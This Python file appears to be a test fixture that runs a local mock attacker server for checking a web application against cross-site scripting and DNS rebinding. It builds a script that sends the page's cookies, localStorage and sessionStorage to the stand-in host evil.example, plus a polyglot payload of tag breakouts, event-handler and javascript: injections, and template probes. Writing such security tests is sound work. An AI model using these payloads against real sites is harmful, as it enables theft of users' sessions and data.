"""An attacker's server: it serves a page that attacks, and records whatever is sent to it."""

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

from aiohttp import web

PAGE = (Path(__file__).parent / "attack.html").read_text()
# Names that Chromium resolves to 127.0.0.1. The second is the one for DNS rebinding.
EVIL, REBOUND = "evil.example", "rebound.example"


@dataclass
class Elsewhere:
    port: int = 0
    seen: list[str] = field(default_factory=list)  # requests other than those for its page

    def at(self, host: str = EVIL) -> str:
        return f"http://{host}:{self.port}"

    @property
    def script(self) -> str:
        """Return a script that reports that it ran, and what it found."""
        found = "JSON.stringify([location.href, document.cookie, {...localStorage}, {...sessionStorage}])"
        return f"window.ran=1;new Image().src='{self.at()}/ran?'+encodeURIComponent({found});fetch('{self.at()}/ran')"

    @property
    def short(self) -> str:
        """Return markup that is short enough for a name."""
        return f"\"'><img data-hostile src=//{EVIL}:{self.port}/name onerror=window.ran=1>"

    @property
    def markup(self) -> str:
        """Return markup that runs scripts in many ways if a text is taken for HTML. Each element can be found by its attribute."""
        run, there = self.script.replace('"', "&quot;"), self.at()
        return (
            f"\"'></textarea></title></style></template><script data-hostile>{self.script}</script>"
            f'<img data-hostile src=x onerror="{run}"><svg data-hostile onload="{run}"></svg>'
            f'<iframe data-hostile srcdoc="<script>{run}</script>"></iframe><meta data-hostile http-equiv=refresh content="0;{there}/meta">'
            f'<link data-hostile rel=stylesheet href="{there}/style"><form data-hostile action="{there}/form"><button autofocus>x'
            f'<a data-hostile href="javascript:{run}">{{{{7*7}}}}${{7*7}}'
        )


@asynccontextmanager
async def elsewhere() -> AsyncIterator[Elsewhere]:
    there = Elsewhere()

    async def answer(request: web.Request) -> web.Response:
        if request.path == "/attack":
            return web.Response(text=PAGE, content_type="text/html")
        if request.path.startswith("/hook"):
            return web.Response(status=500, text=there.markup, content_type="text/html")
        if request.path != "/favicon.ico":
            there.seen.append(
                json.dumps([request.method, request.path_qs, dict(request.headers), await request.text()])
            )
        return web.Response(text="", headers={"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*"})

    app = web.Application()
    app.router.add_route("*", "/{rest:.*}", answer)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    there.port = runner.addresses[0][1]
    try:
        yield there
    finally:
        await runner.cleanup()
